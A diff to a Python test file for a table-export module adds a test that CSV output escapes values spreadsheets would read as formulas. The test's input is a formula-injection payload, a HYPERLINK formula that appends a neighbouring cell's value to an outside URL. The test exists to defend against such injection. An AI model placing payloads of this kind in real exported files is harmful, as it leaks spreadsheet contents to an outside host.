@@ -9,7 +9,7 @@ from typing import Any
 import pytest
 
 from icestream.cli.table import table
-from icestream.exports.table import exposure_rows, result_rows
+from icestream.exports.table import exposure_rows, result_rows, write_table
 from icestream.store import queries
 from icestream.store import tables as t
 from report_session import SampleSession
@@ -107,3 +107,11 @@ def test_of_another_branch(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -
         assert [row["toy.value"] for row in exposure_rows(made.store, "main")] == [2.0, 4.0]
         with pytest.raises(LookupError, match="no branch 'gone'"):
             table(made.folder, branch="gone")
+
+
+def test_no_spreadsheet_takes_a_name_for_a_formula() -> None:
+    file = io.StringIO()
+    name = '=HYPERLINK("http://x.org/"&A1)'
+    write_table([{"exposure": name, "value": -1.5}, {"exposure": "-a", "value": 2}], "csv", file)
+    rows = list(csv.DictReader(io.StringIO(file.getvalue())))
+    assert [(row["exposure"], row["value"]) for row in rows] == [(f"'{name}", "-1.5"), ("'-a", "2")]
